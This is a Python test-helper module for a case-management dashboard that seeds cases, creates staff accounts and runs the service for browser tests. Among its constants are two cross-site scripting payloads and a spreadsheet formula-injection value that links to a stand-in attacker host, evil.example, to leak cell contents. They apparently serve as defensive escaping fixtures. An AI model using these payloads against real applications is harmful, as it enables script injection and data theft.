"""Dashboard test helpers: seeded cases, staff accounts, a signed-in HTTP client, and the real service
(runner, dashboard, simulator, sender, scheduler) on uvicorn in a background thread for browser tests."""

import asyncio
import contextlib
import functools
import re
import socket
import sqlite3
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, time
from pathlib import Path
from typing import Any

import httpx

from bot.app import DB_FILE_NAME
from bot.dashboard import accounts
from bot.settings import OutreachSettings, ServiceSettings, Settings, StoreSettings, WebSettings
from storage import repo
from storage.contract import Tx
from storage.crypto import Sealer
from storage.records import CaseKind, CaseRecord, CaseStatus, Consent, ContactRecord, PersonRecord
from tests.support import TEST_KEY

PASSWORD = "kata-sandi-uji-123"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
SCRIPT_NAME = "<script>alert(1)</script>"
IMG_NAME = '"><img src=x onerror=alert(1)>'
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@functools.cache
def password_hash() -> str:
    """One argon2 hash of PASSWORD, made once per test run (hashing is slow on purpose)."""
    return accounts.hash_password(PASSWORD)


def add_user(conn: sqlite3.Connection, username: str, role: str, name: str | None = None) -> int:
    """A staff account whose password is PASSWORD (a write function)."""
    return accounts.create_user(
        conn,
        username=username,
        display_name=name or username.title(),
        role=role,
        password_hash=password_hash(),
        actor="test",
        at=datetime(2026, 11, 1, tzinfo=UTC),
    )


@dataclass
class SeedCase:
    """One case to seed, with its contact and person."""

    name: str
    kind: CaseKind = CaseKind.REGISTRATION
    status: CaseStatus = CaseStatus.BARU
    kecamatan: str | None = "36.74.03"
    kelurahan: str | None = "36.74.03.1011"
    created_at: datetime = datetime(2026, 11, 18, 3, 0, tzinfo=UTC)
    contact: str | None = None
    nik: str | None = None
    assignee_id: int | None = None
    skills: list[str] = field(default_factory=list)
    answers: dict[str, Any] = field(default_factory=dict)
    location: tuple[float, float] | None = None  # (latitude, longitude) the person shared
    phone: str | None = None  # the person's phone number, as stored
    kk: str | None = None  # the person's KK number (sealed when stored)


_seeded = iter(range(1, 10**9))


def seed_cases(conn: Tx, cases: list[SeedCase], sealer: Sealer | None = None) -> list[str]:
    """Write contacts, persons and cases straight into the store; return the references (a write fn)."""
    references = []
    for item in cases:
        number = next(_seeded)
        contact = item.contact or f"web:seed{number}"
        stamp = item.created_at
        repo.upsert_contact(
            conn,
            ContactRecord(
                id=contact,
                channel=contact.split(":", 1)[0],
                language="id",
                consent=Consent.GRANTED,
                consent_version="2026-11",
                last_inbound_at=stamp,
                created_at=stamp,
                updated_at=stamp,
            ),
        )
        sealed = sealer.seal(item.nik) if sealer is not None and item.nik else None
        person_id = repo.insert_person(
            conn,
            PersonRecord(
                registered_by=contact,
                is_self=True,
                full_name=item.name,
                nik=sealed,
                kk=sealer.seal(item.kk) if sealer is not None and item.kk else None,
                phone=item.phone,
                kecamatan_code=item.kecamatan,
                kelurahan_code=item.kelurahan,
                skills=item.skills,
                created_at=stamp,
                updated_at=stamp,
            ),
        )
        reference = repo.next_reference(conn, item.kind, stamp.year)
        answers = {"full_name": item.name, **item.answers}
        if item.location is not None:
            answers["location"] = {"lat": item.location[0], "lon": item.location[1]}
        if sealed is not None:
            answers["nik"] = sealed.model_dump()
        case_id = repo.insert_case(
            conn,
            CaseRecord(
                reference=reference,
                kind=item.kind,
                status=item.status,
                person_id=person_id,
                contact_id=contact,
                subject_name=item.name,
                kecamatan_code=item.kecamatan,
                kelurahan_code=item.kelurahan,
                latitude=item.location[0] if item.location else None,
                longitude=item.location[1] if item.location else None,
                answers=answers,
                nik_hash=sealed.h if sealed is not None else None,
                created_at=stamp,
                updated_at=stamp,
            ),
            actor=f"contact:{contact}",
        )
        if item.assignee_id is not None:
            conn.execute("UPDATE cases SET assignee_id = ? WHERE id = ?", (item.assignee_id, case_id))
        references.append(reference)
    return references


def csrf_of(html: str) -> str:
    """The CSRF token a page's forms carry."""
    found = CSRF.search(html)
    assert found is not None, html[:500]
    return found.group(1)


async def sign_in(client: httpx.AsyncClient, username: str, password: str = PASSWORD) -> str:
    """Sign in through the real form; return the session's CSRF token."""
    page = await client.get("/login")
    response = await client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": csrf_of(page.text), "next": "/"},
    )
    assert response.status_code == 303, response.text[:500]
    return csrf_of((await client.get("/")).text)


def audit_rows(data_dir: Path) -> list[dict[str, Any]]:
    """The audit log, oldest first (read with a separate connection, as an auditor would)."""
    with contextlib.closing(sqlite3.connect(data_dir / DB_FILE_NAME)) as conn:
        conn.row_factory = sqlite3.Row
        return [dict(row) for row in conn.execute("SELECT * FROM audit_log ORDER BY id")]


def query(data_dir: Path, sql: str, *params: Any) -> list[dict[str, Any]]:
    """Rows of a read query on the service's database file."""
    with contextlib.closing(sqlite3.connect(data_dir / DB_FILE_NAME)) as conn:
        conn.row_factory = sqlite3.Row
        return [dict(row) for row in conn.execute(sql, params)]


def free_port() -> int:
    """A TCP port nobody listens on right now."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def live_settings(data_dir: Path, port: int) -> Settings:
    """Settings for a service under test: fast polling and ticks, no quiet hours (tests run at any hour)."""
    return Settings(
        store=StoreSettings(data_dir=data_dir, secret_key=TEST_KEY, sqlite_synchronous="NORMAL"),
        service=ServiceSettings(outbox_poll_seconds=0.1),
        web=WebSettings(host="127.0.0.1", port=port),
        outreach=OutreachSettings(tick_seconds=0.3, quiet_start=time(0, 0), quiet_end=time(0, 0)),
    )


class LiveService:
    """`bot.runner.run_service` (what `python -m bot` runs) in a thread with its own event loop."""

    def __init__(self, data_dir: Path) -> None:
        self.data_dir = data_dir
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.settings = live_settings(data_dir, self.port)
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop: asyncio.Event | None = None
        self._thread: threading.Thread | None = None
        self._ready = threading.Event()
        self.failure: BaseException | None = None

    def _main(self) -> None:
        from bot.runner import run_service

        async def serve() -> None:
            self._loop = asyncio.get_running_loop()
            self._stop = asyncio.Event()
            self._ready.set()
            await run_service(self.settings, self._stop)

        try:
            asyncio.run(serve())
        except BaseException as exc:  # reported by stop()
            self.failure = exc
            self._ready.set()

    def start(self) -> None:
        """Start and wait until the HTTP server answers."""
        self._thread = threading.Thread(target=self._main, name="live-service", daemon=True)
        self._thread.start()
        self._ready.wait(10)
        with httpx.Client(base_url=self.url) as client:
            for _ in range(200):
                with contextlib.suppress(httpx.TransportError):
                    if client.get("/health").status_code == 200:
                        return
                if self.failure is not None:
                    raise self.failure
                threading.Event().wait(0.025)
        raise TimeoutError("the service did not start")

    def stop(self) -> None:
        """Stop the service and wait for it."""
        if self._loop is not None and self._stop is not None:
            self._loop.call_soon_threadsafe(self._stop.set)
        if self._thread is not None:
            self._thread.join(15)
        if self.failure is not None:
            raise self.failure


@contextlib.contextmanager
def live_service(data_dir: Path) -> Iterator[LiveService]:
    """The real service on a free port for the duration of the block."""
    service = LiveService(data_dir)
    service.start()
    try:
        yield service
    finally:
        service.stop()


def prepare_store_sync(data_dir: Path, work: Any) -> Any:
    """`prepare_store` from synchronous code, on a thread of its own (Playwright's sync API owns this one)."""
    result: list[Any] = []
    failure: list[BaseException] = []

    def run() -> None:
        try:
            result.append(asyncio.run(prepare_store(data_dir, work)))
        except BaseException as exc:  # re-raised in the caller
            failure.append(exc)

    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    if failure:
        raise failure[0]
    return result[0]


async def prepare_store(data_dir: Path, work: Any) -> Any:
    """Open the store (applying migrations), run one write function, close it (before the service starts)."""
    from storage.db import Database

    db = await Database.open(data_dir / DB_FILE_NAME, synchronous="NORMAL")
    try:
        return await db.write(work)
    finally:
        await db.close()


@dataclass
class Desk:
    """A service with its dashboard, reached in-process through an HTTP client (no socket)."""

    service: Any
    dashboard: Any
    client: httpx.AsyncClient
    data_dir: Path
    web: Any

    async def user(self, username: str, role: str, name: str | None = None) -> int:
        """Create an account with PASSWORD."""
        return int(
            await self.service.db.write(functools.partial(add_user, username=username, role=role, name=name))
        )

    async def signed_in(self, role: str, username: str | None = None) -> str:
        """A new account of `role`, signed in on this client; returns the CSRF token."""
        name = username or f"{role}1"
        await self.user(name, role)
        return await sign_in(self.client, name)

    async def seed(self, *cases: SeedCase) -> list[str]:
        """Seed cases; return their references."""
        sealer = self.service.services.sealer
        refs: list[str] = await self.service.db.write(
            functools.partial(seed_cases, cases=list(cases), sealer=sealer)
        )
        return refs

    async def rows(self, sql: str, *params: Any) -> list[dict[str, Any]]:
        """Rows of a read query."""
        return [dict(row) for row in await self.service.db.fetchall(sql, params)]

    async def programme(self, csrf: str, start: datetime, name: str = "Pelatihan montir") -> int:
        """Create a programme for montir through the form (09:00-15:00 on `start`'s day); its id."""
        made = await self.client.post(
            "/programmes",
            data={
                "csrf_token": csrf,
                "name": name,
                "skill": "montir",
                "place": "Panti Tunas Sosial",
                "start_date": f"{start:%Y-%m-%d}",
                "start_time": "09:00",
                "end_time": "15:00",
                "quota": "20",
            },
        )
        assert made.status_code == 303, made.text[:500]
        (row,) = await self.rows("SELECT id FROM programmes WHERE name = ?", name)
        return int(row["id"])


@contextlib.asynccontextmanager
async def open_desk(data_dir: Path, clock: Any) -> Any:
    """A fresh service and dashboard on `data_dir` with a client to it (yields a Desk)."""
    from bot.dashboard import Dashboard, WebChatChannel
    from bot.web import build_asgi
    from tests.support import start_service

    service, _ = await start_service(data_dir, clock)
    web = WebChatChannel()
    service.dispatcher.channels["web"] = web
    dashboard = Dashboard(service, service.settings, web_channel=web, clock=clock)
    app = build_asgi(dashboard.routes())
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        try:
            yield Desk(service, dashboard, client, data_dir, web)
        finally:
            await service.close()
